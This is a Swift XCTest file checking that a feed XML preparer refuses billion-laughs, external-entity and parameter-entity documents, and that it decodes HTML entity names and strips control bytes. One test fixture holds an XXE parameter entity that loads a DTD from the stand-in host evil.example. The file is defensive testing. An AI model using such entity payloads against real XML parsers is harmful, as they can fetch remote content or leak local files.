import Foundation
import XCTest
@testable import KioskWeb

final class FeedXMLPreparerTests: FeedTestCase {
    func testBillionLaughsIsRefusedNotExpanded() throws {
        // Given a billion-laughs document
        // When it is parsed
        let error = parseError(FeedFixtures.billionLaughs)
        // Then it is refused at the first entity declaration, before any expansion
        XCTAssertEqual(error, .entityDeclarations(line: 3))
        XCTAssertEqual(error?.description, "line 3: the document declares XML entities, which are never expanded")
    }

    func testExternalEntityIsRefusedNotRead() throws {
        XCTAssertEqual(parseError(FeedFixtures.externalEntity), .entityDeclarations(line: 2))
    }

    func testParameterEntityIsRefused() {
        let text = """
            <?xml version="1.0"?>
            <!DOCTYPE rss [
              <!-- a comment with a quote ' and a ] bracket -->
              <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;
            ]>
            <rss/>
            """
        XCTAssertEqual(parseError(text), .entityDeclarations(line: 4))
    }

    func testExternalDoctypeWithoutEntitiesIsAccepted() throws {
        // Given an old RSS 0.91 document naming Netscape's DTD and using HTML entity names
        let text = """
            <?xml version="1.0" encoding="ISO-8859-1"?>
            <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
            <rss version="0.91"><channel><title>Caf&eacute; &amp; th&eacute;&nbsp;!</title></channel></rss>
            """
        // When parsed, then nothing is fetched and the names are read
        XCTAssertEqual(try parse(text).title, "Café & thé !")
    }

    func testHTMLEntityNamesBecomeCharacters() throws {
        let feed = try parse(FeedFixtures.rss(title: "&laquo;&nbsp;Caf&eacute;&nbsp;&raquo; &hellip; &euro;", items: ""))
        XCTAssertEqual(feed.title, "« Café » … €")
    }

    func testUnknownEntityNameIsAnError() {
        guard case .malformed(let line, _, let reason)? = parseError("<rss>\n<channel><title>&bogus;</title></channel></rss>") else {
            return XCTFail("expected malformed")
        }
        XCTAssertEqual(line, 2)
        XCTAssertEqual(reason, "an undeclared entity")
    }

    func testEntityNamesInsideCDATAAndCommentsAreLeftAlone() throws {
        let prepared = try FeedXMLPreparer.prepared(Array("<a><![CDATA[&eacute;]]><!-- &eacute; -->&eacute;</a>".utf8))
        XCTAssertEqual(String(decoding: prepared, as: UTF8.self), "<a><![CDATA[&eacute;]]><!-- &eacute; -->&#233;</a>")
    }

    func testForbiddenControlBytesAreDroppedWithoutMovingLines() throws {
        // Given a form feed, a NUL and a vertical tab in a title on line 3
        let text = "<rss>\n<channel>\n<title>A\u{0C}B\u{00}C\u{0B}D</title>\n</chanel></rss>"
        // When parsed, the controls do not fail the document, and a later error keeps its line
        guard case .malformed(let line, _, _)? = parseError(text) else { return XCTFail("expected malformed") }
        XCTAssertEqual(line, 4)
        let prepared = try FeedXMLPreparer.prepared(Array("A\u{0C}B\u{00}C\u{0B}D\tE\nF\r".utf8))
        XCTAssertEqual(String(decoding: prepared, as: UTF8.self), "ABCD\tE\nF\r")
    }
}
